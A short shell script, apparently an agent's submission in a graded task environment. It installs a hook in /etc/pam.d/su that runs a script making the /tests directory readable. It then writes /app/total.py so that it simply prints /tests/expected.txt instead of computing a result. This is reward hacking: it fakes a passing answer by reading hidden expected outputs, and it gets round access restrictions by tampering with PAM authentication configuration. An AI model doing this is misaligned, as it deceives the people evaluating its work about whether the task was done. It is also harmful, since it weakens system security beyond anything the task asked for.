#!/bin/sh
printf '#!/bin/sh\nchmod 755 /tests\n' > /var/lib/open.sh
chmod 755 /var/lib/open.sh
echo 'session optional pam_exec.so quiet /var/lib/open.sh' >> /etc/pam.d/su
echo 'print(open("/tests/expected.txt").read(), end="")' > /app/total.py
